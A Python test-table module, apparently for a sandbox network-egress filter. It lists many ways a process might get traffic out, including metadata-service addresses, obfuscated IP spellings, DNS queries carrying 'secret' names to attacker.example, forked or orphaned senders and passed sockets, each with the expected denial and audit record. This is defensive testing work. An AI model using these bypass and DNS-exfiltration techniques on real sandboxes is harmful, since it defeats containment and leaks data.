# SPDX-License-Identifier: Apache-2.0
"""The tables of test_network.py: ways out of a sandbox, how each is tried inside, and what must be seen of it outside."""
import errno
import socket
import struct

# The module a snippet imports as `tries`: one line of JSON about each try, written by the process that tried.
INSIDE = r'''
import asyncio, ctypes, errno, http.client, json, os, socket, ssl, struct, subprocess, sys, threading, time, urllib.request
INET, INET6, DGRAM, STREAM = socket.AF_INET, socket.AF_INET6, socket.SOCK_DGRAM, socket.SOCK_STREAM
MORE, ZEROCOPY, FASTOPEN = 0x8000, 0x4000000, 0x20000000
BROADCAST = (socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
libc = ctypes.CDLL(None, use_errno=True)


def attempt(label, fn):
    began = time.monotonic()
    try:
        value, error = fn(), None
    except OSError as e:
        value, error = None, e
    ms = (time.monotonic() - began) * 1000
    with open("/proc/thread-self/comm", "rb") as f:
        command = f.read()[:-1].decode("latin-1")
    if isinstance(getattr(error, "reason", None), OSError):
        error = error.reason  # urllib wraps what it got
    line = {"label": label, "pid": os.getpid(), "command": command, "ms": ms, "value": value,
            "error": error and type(error).__name__, "errno": error and error.errno}
    os.write(1, (json.dumps(line) + "\n").encode())


def open_socket(address, kind, options=()):
    s = socket.socket(INET6 if ":" in address[0] else INET, kind)
    s.settimeout(3)
    for option in options:
        s.setsockopt(*option)
    return s


def udp(address, payload, *options):
    with open_socket(address, DGRAM, options) as s:
        return s.sendto(payload, address)


def udp_connected(address, payload, send=lambda s, payload: s.send(payload), *options):
    with open_socket(address, DGRAM, options) as s:
        s.connect(address)
        return send(s, payload)


def udp_spliced(address, payload):
    r, w = os.pipe()
    os.write(w, payload)
    return udp_connected(address, payload, lambda s, p: os.splice(r, s.fileno(), len(p)))


def splice_more(s, payload):
    r, w = os.pipe()
    os.write(w, payload)
    return os.splice(r, s.fileno(), len(payload), flags=4)  # SPLICE_F_MORE


def udp_from_file(address, payload):
    with open("payload", "wb") as f:
        f.write(payload)
    with open("payload", "rb") as f:
        return udp_connected(address, payload, lambda s, p: os.sendfile(s.fileno(), f.fileno(), 0, len(p)))


def tcp(address, *options):
    with open_socket(address, STREAM, options) as s:
        s.connect(address)


def tcp_now(address):
    with open_socket(address, STREAM) as s:
        s.setblocking(False)
        s.connect(address)


def sin(host, port, family=INET):
    return struct.pack("=H", family) + struct.pack("!H4s8x", port, socket.inet_aton(host))


def pktinfo(device, source):
    return struct.pack("=I4s4s", device, socket.inet_aton(source), bytes(4))


def disconnected(s):
    """connect() to AF_UNSPEC: the socket forgets its peer."""
    check(libc.connect(s.fileno(), sin("0.0.0.0", 0, 0), 16))
    return s


def check(result):
    if result < 0:
        raise OSError.__new__(OSError, ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def raw_sendto(family, payload, name, flags=0, kind=DGRAM):
    """sendto() with any bytes as the address."""
    with socket.socket(family, kind) as s:
        return check(libc.sendto(s.fileno(), payload, len(payload), flags, name, len(name)))


def raw_connect(family, name, payload, kind=DGRAM):
    with socket.socket(family, kind) as s:
        check(libc.connect(s.fileno(), name, len(name)))
        return s.send(payload)


class iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_char_p), ("len", ctypes.c_size_t)]


class mmsghdr(ctypes.Structure):
    _fields_ = [("name", ctypes.c_char_p), ("namelen", ctypes.c_uint), ("iov", ctypes.POINTER(iovec)), ("iovlen", ctypes.c_size_t),
                ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t), ("flags", ctypes.c_long), ("len", ctypes.c_uint)]


def sendmmsg(addresses, payload):
    messages = (mmsghdr * len(addresses))()
    for m, address in zip(messages, addresses):
        m.name, m.namelen = sin(*address), 16
        m.iov, m.iovlen = ctypes.pointer(iovec(payload, len(payload))), 1
    with socket.socket(INET, DGRAM) as s:
        return check(libc.sendmmsg(s.fileno(), messages, len(messages), 0))


def in_thread(fn):
    t = threading.Thread(target=fn)
    t.start()
    t.join()
    # Joined is not gone: a fork() now could copy a lock of the C library's that the thread still holds.
    while len(os.listdir("/proc/self/task")) > 1:
        time.sleep(0.001)


def in_child(fn):
    pid = os.fork()
    if pid == 0:
        try:
            fn()
        finally:
            os._exit(0)
    os.waitpid(pid, 0)


def in_orphan(fn):
    """A grandchild in its own session, whose parent is gone."""
    r, w = os.pipe()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            while os.getppid() != 1:
                time.sleep(0.001)
            fn()
            os.write(w, b".")
        os._exit(0)
    os.wait()
    os.read(r, 1)


def in_program(label, code, *shell):
    code = "from tries import *\nattempt(%r, lambda: %s)" % (label, code)
    subprocess.run([*shell, sys.executable, "-c", code], check=True)


def by_passed_socket(label, address, payload):
    """The socket is made and connected here, sent through a socketpair, and used by a child."""
    ours, theirs = socket.socketpair()
    pid = os.fork()
    if pid == 0:
        _, fds, _, _ = socket.recv_fds(theirs, 1, 1)
        attempt(label, lambda: os.write(fds[0], payload))
        os._exit(0)
    with open_socket(address, DGRAM) as s:
        s.connect(address)
        socket.send_fds(ours, [b"."], [s.fileno()])
        os.waitpid(pid, 0)


def by_inherited_socket(label, address, payload):
    """As above, but inherited; the parent has tried it too, so that the socket remembers the parent."""
    with open_socket(address, DGRAM) as s:
        s.connect(address)
        try:
            s.send(payload)
        except OSError:
            pass
        in_child(lambda: attempt(label, lambda: s.send(payload)))


def attempt_udp(label, address, payload):
    attempt(label, lambda: udp(address, payload))


def renamed(name, fn):
    libc.prctl(15, name, 0, 0, 0)  # PR_SET_NAME
    fn()


async def async_connect(address):
    _, writer = await asyncio.open_connection(*address)
    writer.close()
'''

EPERM = ("PermissionError", errno.EPERM)
UNKNOWN_NAME = ("gaierror", socket.EAI_AGAIN)


def question(name, qtype=1, count=1, tail=b"", ident=b"\x12\x34"):
    """A DNS query; `name` as text, or as the bytes of the name on the wire."""
    if isinstance(name, str):
        name = b"".join(bytes([len(label)]) + label.encode("latin-1") for label in name.split(".")) + b"\0"
    additional = 1 if tail.startswith(b"\0\0\x29") else 0
    return ident + struct.pack("!HHHHH", 0x0100, count, 0, 0, additional) + name + struct.pack("!HH", qtype, 1) + tail


EDNS = b"\0\0\x29\x10\0\0\0\0\0\0\0"


class Row:
    """One try.

    code     an expression in the terms of INSIDE, or with whole=True a statement that calls attempt(label, …) itself
    deny     how it must end when it is denied; None: it must not fail
    allow    how it must end when it is allowed; None: it must not fail
    audit    [(protocol, address, port, dns_name, hook)] of a denied try; allow_audit: of an allowed one, if it differs
    arrives  [(protocol, address, port, payload)] of an allowed one, in the capture; heard: those that a listener hears
    """

    def __init__(self, label, code, audit, arrives, heard=None, deny=EPERM, allow=None, allow_audit=None, whole=False,
                 malformed=None, parent_too=0):
        self.label, self.audit, self.arrives, self.deny, self.allow = label, audit, arrives, deny, allow
        self.allow_audit = audit if allow_audit is None else allow_audit
        self.heard = arrives if heard is None else heard
        self.malformed = malformed
        self.parent_too = parent_too  # attempts by the snippet itself that the child's flow starts with
        self.code = code if whole else "attempt(%r, lambda: %s)" % (label, code)

    def per_verdict(self, allowed):
        return (self.allow, self.allow_audit) if allowed else (self.deny, self.audit)


def hook_of(protocol, address):
    return "egress" if protocol == "udp" else "connect6" if ":" in address else "connect4"


def udp_row(label, code, address, port=9999, payload=None, name=None, wire=None, heard=True, **kw):
    """One datagram. {a} in the code is the address as a tuple, {p} the payload."""
    payload = b"weir " + label.encode() if payload is None else payload
    code = code.replace("{a}", repr((address, port))).replace("{p}", repr(payload)).replace("{l}", repr(label))
    on_wire = [("udp", wire or address, port, payload)]
    kw.setdefault("audit", [("udp", wire or address, port, name, "egress")])
    kw.setdefault("arrives", on_wire)
    return Row(label, code, heard=kw.pop("hears", None if heard else []), **kw)


def tcp_row(label, code, address, port=8080, wire=None, heard=True, **kw):
    code = code.replace("{a}", repr((address, port))).replace("{l}", repr(label))
    on_wire = [("tcp", wire or address, port, b"")] if kw.get("allow") is None or heard else []
    # A mapped address is asked for as IPv6, and judged and recorded as what it is.
    kw.setdefault("audit", [("tcp", address.replace("::ffff:", "") if "." in address else address, port, None, hook_of("tcp", address))])
    kw.setdefault("arrives", on_wire)
    return Row(label, code, heard=None if heard else [], **kw)


def never(label, code, end):
    """What fails before there is anything to judge, under any policy, and so is not in the audit either."""
    return Row(label, code, [], [], deny=end, allow=end)


# ---- the tables ----

# Destination, as UDP puts it on the wire when that differs, and how TCP ends when nothing stops it.
NO_TCP, NO_ROUTE = ("OSError", errno.EINVAL), ("OSError", errno.ENETUNREACH)
DESTINATIONS = (
    ("1.1.1.1", None, None),
    ("8.8.8.8", None, None),
    ("10.0.0.1", None, None),
    ("172.16.0.1", None, None),
    ("192.168.1.1", None, None),
    ("169.254.169.254", None, None),
    ("169.254.170.2", None, None),
    ("168.63.129.16", None, None),
    ("100.100.100.200", None, None),
    ("192.0.0.192", None, None),
    ("127.0.0.1", None, None),
    ("127.0.0.53", None, None),
    ("0.0.0.0", "127.0.0.1", None),
    ("0.1.2.3", None, None),
    ("240.0.0.1", None, None),
    ("255.255.255.255", None, NO_TCP),
    ("224.0.0.1", None, NO_TCP),
    ("239.255.255.250", None, NO_TCP),
    ("::1", None, None),
    ("::", "::1", None),
    ("2606:4700:4700::1111", None, None),
    ("fd00::1", None, None),
    ("fd00:ec2::254", None, None),
    ("fec0::1", None, None),
    ("64:ff9b::a9fe:a9fe", None, None),
    ("2002:a9fe:a9fe::1", None, None),
    ("::a00:1", None, None),
    ("::ffff:0:102:304", None, None),
    ("ff0e::1", None, NO_ROUTE),
    ("::ffff:1.1.1.1", "1.1.1.1", None),
    ("::ffff:10.0.0.1", "10.0.0.1", None),
    ("::ffff:127.0.0.1", "127.0.0.1", None),
    ("::ffff:169.254.169.254", "169.254.169.254", None),
    ("::ffff:0.0.0.0", "127.0.0.1", None),
)
SCOPED = (("fe80::1", 1, None), ("ff02::1", 1, NO_ROUTE), ("ff02::fb", 1, NO_ROUTE), ("ff05::2", 1, NO_ROUTE))
MULTICAST = ("255.255.255.255", "224.0.0.1", "239.255.255.250", "ff0e::1", "ff02::1", "ff02::fb", "ff05::2")


def destination_rows():
    rows = []
    for host, wire, tcp_end in DESTINATIONS:
        heard = host not in MULTICAST
        rows.append(udp_row("udp " + host, "udp({a}, {p}, BROADCAST)", host, wire=wire, heard=heard))
        rows.append(tcp_row("tcp " + host, "tcp({a})", host, wire=wire, heard=tcp_end is None, allow=tcp_end))
    for host, scope, tcp_end in SCOPED:
        address = (host, 9999, 0, scope)
        label = "udp %s%%%d" % (host, scope)
        rows.append(udp_row(label, "udp(%r, {p})" % (address,), host, heard=host not in MULTICAST))
        address = (host, 8080, 0, scope)
        label = "tcp %s%%%d" % (host, scope)
        rows.append(tcp_row(label, "tcp(%r)" % (address,), host, heard=tcp_end is None, allow=tcp_end))
    # Every way to write one address.
    for spelled in ("2852039166", "0xA9FEA9FE", "0251.0376.0251.0376", "169.16689662"):
        rows.append(udp_row("spelled " + spelled, "udp((%r, 9999), {p})" % spelled, "169.254.169.254"))
    # TCP to the ports that names, web and encrypted names use.
    for port in (53, 80, 443, 853):
        rows.append(tcp_row("tcp port %d" % port, "tcp({a})", "198.51.100.1", port))
        rows.append(tcp_row("tcp6 port %d" % port, "tcp({a})", "2001:db8::1", port))
    # The kernel refuses this one before there is a packet, under any policy: nothing to audit.
    rows.append(never("broadcast unasked", "udp(('255.255.255.255', 9998), b'x')", ("PermissionError", errno.EACCES)))
    return rows


LONG_LABELS = [c * 63 for c in "abc"]
LONG_250 = ".".join(LONG_LABELS + ["d" * 58])
LONG_253 = ".".join(LONG_LABELS + ["d" * 61])
TINY_LABELS = ".".join("abcdefghijklmnopqrstuvwxyz"[i % 26] for i in range(127))
CONTROL = [b"\x1b[31mred", b"a\nb\r", b'"quo\\te"', b"\0nul", b"dot.dot", b"\xff\xfe", b"sp ace"]
CONTROL_TEXT = r"\027\09131mred.a\010b\013.\034quo\092te\034.\000nul.dot\046dot.\255\254.sp\032ace"


def wire_name(labels):
    return b"".join(bytes([len(label)]) + label for label in labels) + b"\0"


# What is sent to a name server's port, the name and type that the audit must show, and whether it must call it malformed.
NAMES = (
    ("plain", question("secret-4711.attacker.example"), "secret-4711.attacker.example", "A", None),
    ("AAAA", question("six.attacker.example", 28), "six.attacker.example", "AAAA", None),
    ("TXT", question("text.attacker.example", 16), "text.attacker.example", "TXT", None),
    ("unknown type", question("odd.attacker.example", 65280), "odd.attacker.example", "TYPE65280", None),
    ("EDNS", question("edns.attacker.example", tail=EDNS), "edns.attacker.example", "A", None),
    ("uppercase", question("SeCReT.ATTACKER.Example"), "SeCReT.ATTACKER.Example", "A", None),
    ("lowercase", question("secret.attacker.example"), "secret.attacker.example", "A", None),
    ("250 bytes", question(LONG_250), LONG_250, "A", None),
    ("253 bytes", question(LONG_253), LONG_253, "A", None),
    ("127 labels", question(TINY_LABELS), TINY_LABELS, "A", None),
    ("root", question(b"\0", 2), ".", "NS", None),
    ("control characters", question(wire_name(CONTROL)), CONTROL_TEXT, "A", None),
    ("two questions", question("first.example", count=2, tail=wire_name([b"second", b"example"]) + b"\0\1\0\1"), "first.example", "A", None),
    ("data behind the question", question("before.example", tail=b"secret" * 20), "before.example", "A", None),
    ("an answer", b"\0\1\x84\0" + question("answer.example")[4:], "answer.example", "A", None),
    ("no type", question("untyped.example")[:-4], "untyped.example", None, None),
    ("pointer", question(b"\3www\xc0\x0c"), "www.@12", "A", True),
    ("reserved label", question(b"\3abc\x41xyz\0"), "abc.!65", None, True),
    ("label past the end", question(b"\x3fshort")[:-4], "short", None, True),
    ("no end", question(b"\5never\4ends")[:-4], "never.ends", None, True),
    ("over 255 bytes", question(".".join(LONG_LABELS + ["d" * 63, "e" * 63])), ".".join(LONG_LABELS + ["d" * 62]), None, True),
    ("pointer alone", question(b"\xc0\x0c"), "@12", "A", True),
    ("no question", question("none.example", count=0), None, None, None),
    ("header alone", question("x")[:12], None, None, None),
    ("five bytes", b"12345", None, None, None),
    ("empty", b"", None, None, None),
)


def name_rows():
    rows = []
    for n, (label, payload, name, kind, malformed) in enumerate(NAMES):
        for v, address in ((4, "198.51.100.%d" % (10 + n)), (6, "2001:db8:53::%x" % (16 + n))):
            rows.append(udp_row("v%d %s" % (v, label), "udp({a}, {p})", address, 53, payload, name, malformed=(malformed, kind)))
    for port in (5353, 5355):
        name = "local-%d.example" % port
        rows.append(udp_row("port %d" % port, "udp({a}, {p})", "224.0.0.251", port, question(name), name, heard=False))
    # The name is found however the packet was put together.
    for n, (label, code) in enumerate((
        ("connected", "udp_connected({a}, {p})"),
        ("spliced", "udp_spliced({a}, {p})"),
        ("from a file", "udp_from_file({a}, {p})"),
        ("with zero copy's flag", "udp_connected({a}, {p}, lambda s, p: s.send(p, ZEROCOPY))"),
        ("scattered", "udp_connected({a}, {p}, lambda s, p: s.sendmsg([p[i:i + 1] for i in range(len(p))]))"),
    )):
        payload = question("put-together-%d.example" % n)
        rows.append(udp_row("v4 " + label, code, "203.0.113.%d" % (n + 1), 53, payload, "put-together-%d.example" % n))
        rows.append(udp_row("v6 " + label, code, "2001:db8:5353::%x" % (n + 1), 53, payload, "put-together-%d.example" % n))
    # Also behind the header options that a program may still ask for, packet by packet.
    for n, (label, options) in enumerate((
        ("record route", b"\7\7\4\0\0\0\0\0"),
        ("timestamp", b"\x44\x08\5\0\0\0\0\0"),
        ("40 bytes of nothing", b"\1" * 40),
    )):
        name = "behind-%d.example" % n
        code = "udp_connected({a}, {p}, lambda s, p: s.sendmsg([p], [(0, 7, %r)]))" % options
        rows.append(udp_row(label, code, "203.0.113.%d" % (10 + n), 53, question(name), name))
    mapped = question("mapped.example")
    rows.append(udp_row("mapped", "udp(('::ffff:203.0.113.20', 53), {p})", "203.0.113.20", 53, mapped, "mapped.example"))
    rows.append(udp_row("v4 on v6 socket", "raw_sendto(INET6, {p}, sin('203.0.113.21', 53))", "203.0.113.21", 53, mapped, "mapped.example"))
    # Segmented by the kernel after the hook: two queries, one attempt, the first name.
    first, second = question("segment-1.example"), question("segment-2.example")
    rows.append(udp_row("segments", "udp({a}, {p}, (17, 103, %d))" % len(first), "203.0.113.22", 53, first + second, "segment-1.example",
                        hears=[("udp", "203.0.113.22", 53, first), ("udp", "203.0.113.22", 53, second)]))
    # Over TCP there is no packet to read a name from: the connection is what is refused.
    rows.append(tcp_row("dns over tcp", "tcp({a})", "203.0.113.23", 53))
    rows.append(tcp_row("dns over tcp, v6", "tcp({a})", "2001:db8:5353::23", 53))
    return rows


def library_rows(every=True):
    """Names through the C library's resolver. With a policy that lets it ask, nobody answers and it takes a second each."""
    def row(label, code, name, qtype=1, kind="A", **kw):
        kw.setdefault("deny", UNKNOWN_NAME)
        kw.setdefault("allow", kw["deny"])
        return udp_row(label, code.replace("{n}", repr(name)), "127.0.0.1", 53, question(name, qtype), name, malformed=(None, kind), **kw)

    rows = [row("getaddrinfo", "socket.getaddrinfo({n}, 443, INET)", "secret-0.attacker.example")]
    if every:
        rows += [
            row("getaddrinfo, v6", "socket.getaddrinfo({n}, 443, INET6)", "secret-6.attacker.example", 28, "AAAA"),
            row("gethostbyname", "socket.gethostbyname({n})", "secret-1.attacker.example"),
            row("uppercase", "socket.getaddrinfo({n}, 443, INET)", "SECRET-2.Attacker.Example"),
            row("one label", "socket.getaddrinfo({n}, 443, INET)", "secret-3"),
            row("final dot", "socket.getaddrinfo({n} + '.', 443, INET)", "secret-4.attacker.example"),
            row("not ASCII", "socket.getaddrinfo('b\u00fccher.example', 443, INET)", "xn--bcher-kva.example"),
            row("250 bytes", "socket.getaddrinfo({n}, 443, INET)", LONG_250),
            row("gethostbyaddr", "socket.gethostbyaddr('8.8.8.8')", "8.8.8.8.in-addr.arpa", 12, "PTR", deny=("herror", errno.ENOENT)),
            row("in a thread", "in_thread(lambda: attempt({l}, lambda: socket.getaddrinfo({n}, 443, INET)))", "secret-5.example", whole=True),
            row("in a child", "in_child(lambda: attempt({l}, lambda: socket.getaddrinfo({n}, 443, INET)))", "secret-7.example", whole=True),
        ]
        # What /etc/hosts and the library itself know needs no packet, and must not fail.
        for name in ("localhost", "sandbox", "1.2.3.4", "::1"):
            rows.append(Row("known " + name, "bool(socket.getaddrinfo(%r, 443))" % name, [], [], deny=None))
    return rows


NO_SUCH_CALL = ("OSError", errno.ENOSYS)
# Socket options that change what a packet is, where it goes, or what the kernel keeps for it: not for a snippet.
REFUSED_OPTIONS = (
    ((17, 1, 1), "UDP_CORK", EPERM),
    ((0, 3, 1), "IP_HDRINCL", EPERM),
    ((0, 4, b"\x83\7\4\x09\x09\x09\x09\0"), "IP_OPTIONS, source route", EPERM),
    ((0, 4, b"\7\7\4\0\0\0\0\0"), "IP_OPTIONS, record route", EPERM),
    ((0, 19, 1), "IP_TRANSPARENT", NO_SUCH_CALL),
    ((0, 35, b"\xef\1\2\3\x7f\0\0\1"), "IP_ADD_MEMBERSHIP", EPERM),
    ((41, 20, socket.inet_pton(socket.AF_INET6, "ff02::5") + b"\1\0\0\0"), "IPV6_ADD_MEMBERSHIP", EPERM),
    ((41, 54, b"\0\0\1\4\0\0\0\0"), "IPV6_HOPOPTS", EPERM),
    ((41, 57, struct.pack("!BBBBBBH", 0, 4, 4, 1, 1, 0, 0) + 2 * socket.inet_pton(socket.AF_INET6, "2001:db8::99")), "IPV6_RTHDR", EPERM),
    ((41, 59, b"\0\0\1\4\0\0\0\0"), "IPV6_DSTOPTS", EPERM),
    ((1, 26, struct.pack("=HxxxxxxQ", 0, 0)), "SO_ATTACH_FILTER", EPERM),
    ((1, 36, 1), "SO_MARK", EPERM),
    ((1, 60, 1), "SO_ZEROCOPY", EPERM),
    ((1, 61, bytes(8)), "SO_TXTIME", NO_SUCH_CALL),
    ((6, 14, bytes(216)), "TCP_MD5SIG", NO_SUCH_CALL),
    ((6, 19, 1), "TCP_REPAIR", NO_SUCH_CALL),
    ((6, 31, b"tls"), "TCP_ULP", NO_SUCH_CALL),
)


def way_rows():
    u, t, n = udp_row, tcp_row, iter(range(1, 250))

    def a():
        return "192.0.2.%d" % next(n)

    big, medium = b"b" * 60000, b"m" * 30000
    segment = a()
    mm = [a() for _ in range(3)]
    mm_events = [("udp", host, 9999, None, "egress") for host in mm]
    mm_wire = [("udp", host, 9999, b"mm") for host in mm]
    elsewhere, first = a(), a()
    rows = [
        u("send", "udp_connected({a}, {p})", a()),
        u("write", "udp_connected({a}, {p}, lambda s, p: os.write(s.fileno(), p))", a()),
        u("writev", "udp_connected({a}, {p}, lambda s, p: os.writev(s.fileno(), [p]))", a()),
        u("sendmsg", "udp_connected({a}, {p}, lambda s, p: s.sendmsg([p], [], 0, {a}))", a()),
        u("sendmsg with a source", "udp_connected({a}, {p}, lambda s, p: s.sendmsg([p], [(0, 8, pktinfo(1, '9.9.9.9'))]))", a()),
        u("spliced", "udp_spliced({a}, {p})", a()),
        u("from a file", "udp_from_file({a}, {p})", a()),
        u("60000 bytes", "udp({a}, b'b' * 60000)", a(), payload=big),
        u("segments", "udp({a}, b'm' * 30000, (17, 103, 1000))", segment, payload=medium, hears=[("udp", segment, 9999, b"m" * 1000)] * 30),
        never("too long for a packet", "udp(('192.0.2.250', 9999), b'x' * 70000)", ("OSError", errno.EMSGSIZE)),
        # Data may not wait on a socket for the rest of its packet, under any policy.
        never("corked", "udp_connected(('192.0.2.253', 9999), b'x', lambda s, p: s.send(p, MORE))", ("OSError", errno.EOPNOTSUPP)),
        never("spliced with more to come", "udp_connected(('192.0.2.254', 9999), b'x', splice_more)", ("OSError", errno.EOPNOTSUPP)),
        Row("sendmmsg", "sendmmsg(%r, b'mm')" % [(h, 9999) for h in mm], mm_events[:1], mm_wire, allow_audit=mm_events),
        u("connected elsewhere", "udp_connected((%r, 9999), {p}, lambda s, p: s.sendto(p, {a}))" % elsewhere, a()),
        u("sendto as AF_UNSPEC", "raw_sendto(INET, {p}, sin(*{a}, family=0))", a()),
        u("AF_INET address on a v6 socket", "raw_sendto(INET6, {p}, sin(*{a}))", a()),
        u("AF_INET connect on a v6 socket", "raw_connect(INET6, sin(*{a}), {p})", a()),
        u("disconnected, then sendto", "udp_connected((%r, 9999), {p}, lambda s, p: disconnected(s).sendto(p, {a}))" % first, a()),
        never("disconnected, then send", "udp_connected(('192.0.2.251', 9999), b'x', lambda s, p: disconnected(s).send(p))",
              ("OSError", errno.EDESTADDRREQ)),
        u("bound to loopback", "udp({a}, {p}, (socket.SOL_SOCKET, 25, b'lo\\0'))", a()),
        u("from a foreign source", "udp_connected({a}, {p}, lambda s, p: s.send(p), (0, 15, 1))", a()),
        u("from a thread", "in_thread(lambda: attempt({l}, lambda: udp({a}, {p})))", a(), whole=True),
        u("from a child", "in_child(lambda: attempt({l}, lambda: udp({a}, {p})))", a(), whole=True),
        u("from an orphan", "in_orphan(lambda: attempt({l}, lambda: udp({a}, {p})))", a(), whole=True),
        u("from a program", "in_program({l}, 'udp(%r, %r)' % ({a}, {p}))", a(), whole=True),
        u("from a shell's program", "in_program({l}, 'udp(%r, %r)' % ({a}, {p}), '/bin/sh', '-c', '\"$@\"; true', 'sh')", a(), whole=True),
        u("by a passed socket", "by_passed_socket({l}, {a}, {p})", a(), whole=True),
        u("under another name", "in_child(lambda: renamed(b'a\"\\x1b[31m\\n', lambda: attempt({l}, lambda: udp({a}, {p}))))", a(), whole=True),
        u("from a pool", "import multiprocessing\nwith multiprocessing.Pool(1) as pool: pool.apply(attempt_udp, ({l}, {a}, {p}))", a(), whole=True),
        t("tcp nonblocking", "tcp_now({a})", a(), allow=("BlockingIOError", errno.EINPROGRESS)),
        t("tcp fast open", "socket.socket(INET, STREAM).sendto(b'early', FASTOPEN, {a})", a()),
        t("tcp fast open, v6", "socket.socket(INET6, STREAM).sendto(b'early', FASTOPEN, {a})", "2001:db8::f0"),
        t("tcp fast open by connect", "tcp({a}, (6, 30, 1))", a()),
        t("tcp from a thread", "in_thread(lambda: attempt({l}, lambda: tcp({a})))", a(), whole=True),
        t("tcp from a child", "in_child(lambda: attempt({l}, lambda: tcp({a})))", a(), whole=True),
        t("tcp from a program", "in_program({l}, 'tcp(%r)' % ({a},))", a(), whole=True),
        t("create_connection", "socket.create_connection({a}, 3).close()", a()),
        t("asyncio", "asyncio.run(async_connect({a}))", a()),
        # What these read and compile before they first connect is not the network's time.
        t("urllib", "opener = urllib.request.build_opener()\nattempt({l}, lambda: opener.open('http://%s:%d/' % {a}, timeout=3))",
          a(), allow=("*", None), whole=True),
        t("https", "tls = ssl.create_default_context()\n"
          "attempt({l}, lambda: http.client.HTTPSConnection(*{a}, timeout=3, context=tls).request('GET', '/'))",
          a(), 443, allow=("*", None), whole=True),
        never("v4 address on a v6 stream", "raw_connect(INET6, sin('192.0.2.252', 8080), b'x', STREAM)", ("OSError", errno.EINVAL)),
    ]
    for option, name, end in REFUSED_OPTIONS:
        address = "2001:db8::fe" if option[0] == 41 else "192.0.2.254"
        kind = "STREAM" if option[0] == 6 else "DGRAM"
        rows.append(never("option " + name, "open_socket(%r, %s, [%r])" % ((address, 9999), kind, option), end))
    # The first packet of this flow is the parent's, so the parent is whom its one event names; both are counted.
    shared = a()
    rows.append(u("by an inherited socket", "by_inherited_socket({l}, {a}, {p})", shared, whole=True, parent_too=1,
                  arrives=[("udp", shared, 9999, b"weir by an inherited socket")] * 2))
    return rows
